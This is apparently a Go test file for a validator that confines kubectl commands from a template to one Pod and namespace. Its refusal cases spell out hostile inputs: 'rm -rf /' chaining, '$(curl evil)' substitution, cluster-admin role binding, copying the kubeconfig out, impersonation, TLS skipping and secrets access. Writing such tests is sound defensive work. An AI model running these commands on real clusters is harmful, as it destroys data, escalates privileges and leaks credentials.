package main

import (
	"slices"
	"strings"
	"testing"
)

func TestTheShellRunsWhatUsesThePodOfTheRequest(t *testing.T) {
	for message, want := range map[string]string{
		"kubectl exec -ti -n shop web-1 -- /bin/sh":                         "exec --namespace=shop --stdin=true --tty=true pod/web-1 -- /bin/sh",
		"kubectl -n shop exec -it web-1 -c app -- sh -c --kubeconfig=x":     "exec --namespace=shop --container=app --stdin=true --tty=true pod/web-1 -- sh -c --kubeconfig=x",
		"kubectl exec pod/web-1 --container=app -- env":                     "exec --namespace=shop --container=app pod/web-1 -- env",
		"kubectl attach -it --namespace shop web-1":                         "attach --namespace=shop --stdin=true --tty=true pod/web-1",
		"kubectl logs -fp --tail 10 web-1":                                  "logs --namespace=shop --follow=true --previous=true --tail=10 pod/web-1",
		"kubectl port-forward pods/web-1 8080:80 9090":                      "port-forward --namespace=shop pod/web-1 8080:80 9090",
		"kubectl debug -ti web-1 --image=busybox --target=app":              "debug --namespace=shop --image=busybox --stdin=true --target=app --tty=true pod/web-1",
		"kubectl get pod web-1 -o jsonpath={.status.phase}":                 "get --namespace=shop --output=jsonpath={.status.phase} pod/web-1",
		`kubectl exec web-1 -- sh -c "echo \"a b\" \n" c\ d 'e'f ''`:        "exec --namespace=shop pod/web-1 -- sh -c echo \"a b\" \\n c d ef ",
		"kubectl get pod web-1 -o name":                                     "get --namespace=shop --output=name pod/web-1",
		"kubectl exec web-1 -- sh -c 'kubectl create clusterrolebinding x'": "exec --namespace=shop pod/web-1 -- sh -c kubectl create clusterrolebinding x",
	} {
		t.Run(message, func(t *testing.T) {
			got, err := podCommand(message, "shop", "web-1")
			if err != nil || strings.Join(got, " ") != want {
				t.Errorf("got %q, %v\nwant %q", strings.Join(got, " "), err, want)
			}
		})
	}
}

// A template's author has the rights of no engineer, and is not to get them by
// what an engineer runs.
func TestTheShellDoesNothingElseForATemplatesAuthor(t *testing.T) {
	for sentence, message := range map[string]string{
		"another program":                    "sh -c 'kubectl exec web-1'",
		"nothing":                            "",
		"kubectl alone":                      "kubectl",
		"another command":                    "kubectl exec web-1 -- sh; rm -rf /",
		"what a shell would expand":          "kubectl exec web-1 -- sh -c \"$(curl evil)\"",
		"a backslash at the end":             `kubectl exec web-1 -- sh \`,
		"a quote that does not end":          "kubectl exec web-1 -- 'sh",
		"a right for the author":             "kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=mallory",
		"a plugin":                           "kubectl evil web-1",
		"the engineer's files":               "kubectl cp /root/.kube/config shop/web-1:/tmp/config",
		"another kubeconfig":                 "kubectl --kubeconfig=/tmp/evil exec web-1 -- sh",
		"another kubeconfig, later":          "kubectl exec web-1 --kubeconfig /tmp/evil -- sh",
		"another server":                     "kubectl exec --server=https://evil web-1 -- sh",
		"another server, in short":           "kubectl exec -s https://evil web-1 -- sh",
		"another server, among short flags":  "kubectl exec -tis https://evil web-1 -- sh",
		"another context":                    "kubectl exec --context=prod web-1 -- sh",
		"another cluster":                    "kubectl exec --cluster=prod web-1 -- sh",
		"another user":                       "kubectl exec --user=admin web-1 -- sh",
		"another's token":                    "kubectl exec --token=x web-1 -- sh",
		"another identity":                   "kubectl exec --as=system:admin web-1 -- sh",
		"another identity, underlined":       "kubectl exec --as_group=system:masters web-1 -- sh",
		"no check of the server":             "kubectl exec --insecure-skip-tls-verify web-1 -- sh",
		"a proxy between":                    "kubectl exec --proxy-url=http://evil web-1 -- sh",
		"aliases of the author's":            "kubectl exec --kuberc=/tmp/evil web-1 -- sh",
		"a file that is written":             "kubectl exec --profile=cpu --profile-output=/root/.bashrc web-1 -- sh",
		"a file that is read":                "kubectl exec -f /tmp/evil.yaml -- sh",
		"another Pod":                        "kubectl exec -n shop etcd-0 -- sh",
		"a Pod of another namespace":         "kubectl exec -n kube-system web-1 -- sh",
		"another namespace, said twice":      "kubectl -n shop exec -n kube-system web-1 -- sh",
		"no Pod":                             "kubectl exec -- web-1 sh",
		"a Pod among others":                 "kubectl get pod web-1 secret/web",
		"another kind":                       "kubectl get secret web-1",
		"another kind of the same name":      "kubectl exec deployment/web-1 -- sh",
		"a node":                             "kubectl debug node/web-1 --image=evil",
		"a copy of the Pod":                  "kubectl debug web-1 --copy-to=mine --image=evil",
		"all Pods":                           "kubectl logs -l app=web",
		"a port for everybody":               "kubectl port-forward --address 0.0.0.0 web-1 8080:80",
		"a word in the old manner":           "kubectl exec web-1 sh",
		"another request of the API":         "kubectl get --raw /api/v1/secrets",
		"help that would be the end of this": "kubectl exec --help",
	} {
		t.Run(sentence, func(t *testing.T) {
			if got, err := podCommand(message, "shop", "web-1"); err == nil {
				t.Errorf("%s is run as kubectl %q, and is to be refused", message, got)
			}
		})
	}
	if _, err := podCommand("kubectl exec  -- sh", "shop", ""); err == nil {
		t.Error("a request without a Pod has a command that is run")
	}
	if args, err := podCommand("kubectl exec web-1 -- sh", "shop", "web-1"); err != nil || !slices.Contains(args, "--namespace=shop") {
		t.Errorf("without a namespace in the command it is run in that of the request: %q, %v", args, err)
	}
}
